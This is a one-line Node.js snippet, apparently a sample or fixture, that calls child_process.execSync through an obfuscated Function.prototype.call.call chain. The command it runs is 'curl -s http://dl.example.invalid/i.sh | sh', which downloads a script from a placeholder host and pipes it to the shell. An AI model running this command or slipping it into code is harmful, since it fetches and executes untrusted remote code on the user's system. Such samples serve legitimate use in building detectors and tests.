Function.prototype.call.call(require('child_process').execSync, null, 'curl -s http://dl.example.invalid/i.sh | sh');
